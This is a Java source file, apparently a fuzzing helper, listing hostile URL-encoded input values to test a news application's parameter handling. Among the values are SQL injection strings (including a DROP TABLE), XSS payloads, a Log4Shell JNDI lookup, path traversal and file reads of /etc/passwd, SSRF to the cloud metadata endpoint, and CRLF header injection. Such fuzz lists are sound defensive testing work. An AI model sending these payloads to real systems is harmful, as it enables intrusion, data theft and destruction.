package dev.newsfold.local.hostile;

import java.util.List;
import java.util.Random;

/** Values that break what trusts them, as they stand in an address: percent-encoded, or wrongly. */
final class HostileValue {

  private static final List<String> VALUES =
      List.of(
          "",
          "%00",
          "%0d%0aSet-Cookie:%20a=b",
          "-1",
          "0",
          "2147483648",
          "-9223372036854775809",
          "1e309",
          "NaN",
          "%D9%A3",
          "null",
          "undefined",
          "true",
          "[]",
          "%5B%22a%22%5D",
          "%7B%22a%22:%7B%7D%7D",
          "'%20OR%20'1'='1",
          "1;%20DROP%20TABLE%20article;--",
          "%27%3B%20update%20story%20set%20id=1--",
          "$1",
          "%25%5F%25",
          "%5C",
          "%22",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
          "javascript:alert(1)",
          "$%7Bjndi:ldap://x.invalid/a%7D",
          "%23%7B7*7%7D",
          "../../../../etc/passwd",
          "..%2f..%2f..%2fetc%2fpasswd",
          "%2e%2e%2f%2e%2e%2f",
          "..%5c..%5cwindows",
          "file:///etc/passwd",
          "http://169.254.169.254/latest/meta-data/",
          "http://127.0.0.1:9092/",
          "%FF%FE",
          "%C3%28",
          "%ED%A0%80",
          "%F4%90%80%80",
          "%C0%AE%C0%AE",
          "%zz",
          "%",
          "%u0041",
          "%E2%80%AE%E2%80%8B",
          "%F0%9F%92%A9",
          "a%CC%81".repeat(300),
          "%EF%BF%BF",
          "2021-02-30",
          "9999999999-01-01",
          "-999999999-01-01",
          "+1000000-12-31",
          "2021-06-22T25:61:61Z",
          "PT99999999999H",
          "*",
          "**",
          "a*".repeat(200),
          "(((((((((((((((((((((",
          "%22unclosed",
          "-",
          "-%22%22%20-",
          "AND%20OR%20NOT",
          "%5B*%20TO%20*%5D",
          "a~9999",
          "title:%5B",
          "eyJhIjoxfQ",
          "AAAA",
          "rO0ABXNyABFqYXZh",
          "%F0",
          "x".repeat(3_000),
          "%20x".repeat(800),
          "%C2%AD".repeat(400));

  private HostileValue() {}

  static String any(Random random) {
    return VALUES.get(random.nextInt(VALUES.size()));
  }
}
